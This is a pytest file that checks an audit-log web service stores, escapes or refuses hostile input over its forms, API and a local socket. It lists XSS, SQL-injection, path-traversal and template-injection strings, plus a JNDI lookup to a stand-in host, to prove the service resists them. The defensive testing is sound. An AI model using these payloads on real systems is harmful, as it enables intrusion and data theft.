"""Hostile input: injection strings are stored as text and shown escaped; bad bodies are refused.

* SQL, HTML, template and path-traversal strings in every text field of an event are stored
  byte for byte and appear HTML-escaped (never raw) on the police's search and entry pages;
* the same strings in the audit search form and the login form are answered, escaped, and
  never change a query or log anyone in;
* oversized, deeply nested and invalid UTF-8 bodies, and path tricks in URLs, are refused over
  a real socket (the production server, service/core/server.py, on 127.0.0.1) without a 5xx.
"""

from __future__ import annotations

import contextlib
import http.client
import json
import re
import uuid

import pytest
from markupsafe import escape
from sqlalchemy import select

from canhgac_common.pii.mask import mask_pii
from service.audit.models import AuditEntry
from service.auth.models import User
from service.core.db import new_session
from tests.conftest import PASSWORD, csrf_token_from

NASTY = [
    "<script>alert('xss')</script>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE audit_entry; --",
    "1' OR '1'='1' --",
    'Robert"); DELETE FROM "user"; --',
    "../../../../etc/passwd",
    "..\\..\\..\\Windows\\System32\\config\\SAM",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "{{ 7*7 }}{% if 1 %}jinja{% endif %}",
    "${jndi:ldap://evil.example/x}",
    "\u202egnp.exe",
    "<svg/onload=alert`1`>",
]
RAW_MARKERS = ("<script>alert", "<img src=x", "<svg/onload")
TEXT_FIELDS = ("host", "actor", "purpose", "object.path", "destination.path",
               "destination.target", "agent_id", "unit")
MAX_BODY = 64 * 1024


@pytest.fixture
def settings_overrides(settings_overrides):
    """A small body limit, so oversized bodies are cheap to send."""
    return {**settings_overrides, "max_body_bytes": MAX_BODY}


@pytest.fixture
def token(runner) -> str:
    result = runner.invoke(["token", "create", "--source", "kiem-thu-bao-mat"])
    assert result.exit_code == 0, result.output
    return result.output.strip().splitlines()[-1]


def _event(text: str) -> dict:
    """An event with the given text in every text field."""
    event = {"id": str(uuid.uuid4()), "occurred_at": "2026-03-02T09:15:00+07:00",
             "action": "copy", "object": {}, "destination": {}}
    for field in TEXT_FIELDS:
        parent, _, leaf = field.rpartition(".")
        (event[parent] if parent else event)[leaf] = text
    return event


def _no_raw_markup(html: str) -> None:
    for marker in RAW_MARKERS:
        assert marker not in html, f"raw {marker!r} in the page"


def _entry_of(app, event_id: str) -> AuditEntry:
    with app.app_context():
        s = new_session()
        try:
            return s.scalar(select(AuditEntry).where(AuditEntry.event_id == event_id))
        finally:
            s.close()


@pytest.fixture
def stored(app, client, token) -> dict[str, str]:
    """Post one event per hostile string; return {string: event id}."""
    ids = {}
    for text in NASTY:
        event = _event(text)
        response = client.post("/api/v1/events", json=event,
                               headers={"Authorization": f"Bearer {token}"})
        assert response.status_code == 200, (text, response.json)
        ids[text] = event["id"]
    return ids


def test_injection_strings_are_stored_byte_for_byte(app, stored, make_user):
    make_user("con_tro", "official")
    for text, event_id in stored.items():
        row = _entry_of(app, event_id)
        body = json.loads(row.body)["body"]
        for field in TEXT_FIELDS:
            parent, _, leaf = field.rpartition(".")
            assert (body[parent] if parent else body)[leaf] == text, field
        assert (row.actor, row.host, row.path) == (text, text, text)
    with app.app_context():
        s = new_session()
        assert [u.username for u in s.scalars(select(User))] == ["con_tro"]  # no table dropped
        s.close()


def test_trail_views_show_hostile_text_escaped(app, stored, make_user, login, client):
    make_user("cong_an_1", "police", unit="cong_an")
    assert login("cong_an_1").status_code == 302
    for text, event_id in stored.items():
        page = client.get("/audit/", query_string={"actor": text})
        assert page.status_code == 200
        html = page.get_data(as_text=True)
        _no_raw_markup(html)
        assert f'value="{escape(text)}"' in html  # the filter is echoed, escaped
        assert f">{escape(text)}</td>" in html  # the actor cell of the matching entry
        assert "Tìm thấy 1 mục." in html, text
        seq = _entry_of(app, event_id).seq
        entry = client.get(f"/audit/entries/{seq}")
        assert entry.status_code == 200
        shown = entry.get_data(as_text=True)
        _no_raw_markup(shown)
        assert str(escape(json.dumps(text, ensure_ascii=False)[1:-1])) in shown


SEARCH_FIELDS = ("actor", "host", "path_contains", "data_class", "action", "kind", "incident_id",
                 "since", "until")


@pytest.mark.parametrize("text", [*NASTY, "a\x00b", "0001-01-01T00:00:00+05:00",
                                  "9999-12-31T23:00:00-05:00", "99999999999999999999",
                                  "%", "_", "\\"])
def test_audit_search_form_takes_any_text(app, make_user, login, client, text):
    make_user("cong_an_2", "police", unit="cong_an")
    login("cong_an_2")
    for field in SEARCH_FIELDS:
        page = client.get("/audit/", query_string={field: text})
        assert page.status_code == 200, (field, page.status_code)
        _no_raw_markup(page.get_data(as_text=True))
    every = client.get("/audit/", query_string={**dict.fromkeys(SEARCH_FIELDS, text),
                                                "page": "99999999999999999999"})
    assert every.status_code == 200
    _no_raw_markup(every.get_data(as_text=True))
    token = csrf_token_from(client, "/audit/")
    export = client.post("/audit/export.csv",
                         data={**dict.fromkeys(SEARCH_FIELDS, text), "csrf_token": token})
    assert export.status_code == 200 and export.mimetype == "text/csv"
    # Each look at the trail is in the trail, with the text the officer typed kept as text
    # (identifiers masked: the trail never holds them).
    with app.app_context():
        s = new_session()
        looks = [json.loads(r.body)["body"] for r in s.scalars(
            select(AuditEntry).where(AuditEntry.kind == "audit.viewed"))]
        s.close()
    typed = [look["filter"].get("actor") for look in looks if look.get("filter")]
    if "\x00" not in text:
        assert mask_pii(text.strip())[:512] in typed


@pytest.mark.parametrize("text", NASTY)
def test_login_form_refuses_and_escapes_hostile_names(app, make_user, client, text):
    make_user("quan_tri", "admin")
    token = csrf_token_from(client, "/login")
    for username, password in ((text, PASSWORD), ("quan_tri", text), (f"quan_tri{text}", text)):
        response = client.post("/login", data={"username": username, "password": password,
                                               "csrf_token": token})
        assert response.status_code == 401, username
        html = response.get_data(as_text=True)
        _no_raw_markup(html)
        if username.strip()[:64] == username:
            assert f'value="{escape(username)}"' in html
    with app.app_context():
        s = new_session()
        failed = [json.loads(r.body)["body"]["actor"] for r in s.scalars(
            select(AuditEntry).where(AuditEntry.kind == "auth.login_failed"))]
        s.close()
    assert text.strip().lower()[:64] in failed  # recorded as the text it was


def test_login_form_survives_invalid_utf8(app, make_user, client):
    make_user("quan_tri", "admin")
    token = csrf_token_from(client, "/login")
    for body in (b"username=%FF%FE&password=x", b"username=\xff\xfe\xed\xa0\x80&password=\xc0\xaf"):
        response = client.post("/login", data=body + b"&csrf_token=" + token.encode(),
                               content_type="application/x-www-form-urlencoded")
        assert response.status_code in (400, 401), response.status_code
        _no_raw_markup(response.get_data(as_text=True))


# --- Over a real socket ---------------------------------------------------------------------


@pytest.fixture
def live(app):
    """Serve the app with the production server on 127.0.0.1 in a thread; yield the port."""
    from service.core.server import Server

    server = Server(app, "127.0.0.1", 0, threads=4)
    server.start()
    try:
        yield server.port
    finally:
        server.stop()


def _raw(port: int, method: str, path: str, body: bytes = b"", headers: dict | None = None,
         chunks: list[bytes] | None = None) -> tuple[int, bytes]:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        conn.putrequest(method, path, skip_accept_encoding=True)
        for name, value in (headers or {}).items():
            conn.putheader(name, value)
        if chunks is not None:
            conn.putheader("Transfer-Encoding", "chunked")
            conn.endheaders()
            try:
                for chunk in chunks:
                    conn.send(b"%x\r\n%s\r\n" % (len(chunk), chunk))
                conn.send(b"0\r\n\r\n")
            except (BrokenPipeError, ConnectionResetError):
                pass  # the server may answer and close before the whole body is sent
        else:
            if "Content-Length" not in (headers or {}):
                conn.putheader("Content-Length", str(len(body)))
            conn.endheaders()
            with contextlib.suppress(BrokenPipeError, ConnectionResetError):
                conn.send(body)  # the server may answer and close before the whole body is sent
        response = conn.getresponse()
        return response.status, response.read()
    finally:
        conn.close()


def _trail_size(app) -> int:
    from service.audit.log import tree_size

    with app.app_context():
        s = new_session()
        try:
            return tree_size(s)
        finally:
            s.close()


def test_oversized_deep_and_invalid_bodies_over_a_socket(app, live, token):
    auth = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
    one = json.dumps([_event("x")]).encode()
    status, _ = _raw(live, "POST", "/api/v1/events", one, auth)
    assert status == 200
    before = _trail_size(app)
    cases = [
        ("claims 100 MB", b"[]", {**auth, "Content-Length": str(100 * 1024 * 1024)}, None, 413),
        ("just over the limit", b"[" + b" " * MAX_BODY + b"]", auth, None, 413),
        ("chunked over the limit", None, auth, [b" " * 8192] * (MAX_BODY // 8192 + 4), (400, 413)),
        ("deep arrays", b"[" * 20_000 + b"]" * 20_000, auth, None, 400),
        ("deep objects", b'{"a":' * 5_000 + b"1" + b"}" * 5_000, auth, None, 400),
        ("deep inside an event", json.dumps({**_event("x"), "pii": _nest(40)}).encode(), auth,
         None, 400),
        ("invalid UTF-8", b'[{"actor": "\xff\xfe"}]', auth, None, 400),
        ("overlong UTF-8", b'[{"actor": "\xc0\xaf"}]', auth, None, 400),
        ("UTF-8 surrogate", b'[{"actor": "\xed\xa0\x80"}]', auth, None, 400),
        ("truncated UTF-8", b'[{"actor": "\xe1\x80"}]', auth, None, 400),
        ("NUL in a string", json.dumps([_event("a\x00b")]).encode(), auth, None, 400),
        ("NaN", b'[{"pii": {"cccd": NaN}}]', auth, None, 400),
    ]
    for name, body, headers, chunks, expected in cases:
        status, raw = _raw(live, "POST", "/api/v1/events", body or b"", headers, chunks)
        assert status in (expected if isinstance(expected, tuple) else (expected,)), (name, status)
        answer = json.loads(raw)
        assert answer.get("error"), (name, answer)
    assert _trail_size(app) == before  # nothing refused was stored
    status, _ = _raw(live, "POST", "/api/v1/events", json.dumps(_event("y")).encode(), auth)
    assert status == 200  # and the server is still fine


def _nest(depth: int):
    value: object = 1
    for _ in range(depth):
        value = {"a": value}
    return value


@pytest.mark.parametrize("path", [
    "/static/../service/config.py",
    "/static/..%2f..%2fservice%2fconfig.py",
    "/static/%2e%2e/%2e%2e/setup.cfg",
    "/static/....//....//setup.cfg",
    "/static/..\\..\\setup.cfg",
    "/static//etc/passwd",
    "/audit/entries/..%2f..%2fetc%2fpasswd",
    "/api/v1/../../etc/passwd",
])
def test_path_tricks_in_urls_reach_no_file(live, path):
    status, raw = _raw(live, "GET", path)
    assert status in (301, 302, 308, 400, 401, 403, 404), (path, status)
    text = raw.decode("utf-8", "replace")
    assert "root:x:" not in text and "[metadata]" not in text and "class Settings" not in text
    assert not re.search(r"secret_key|PRIVATE\+KEY", text)
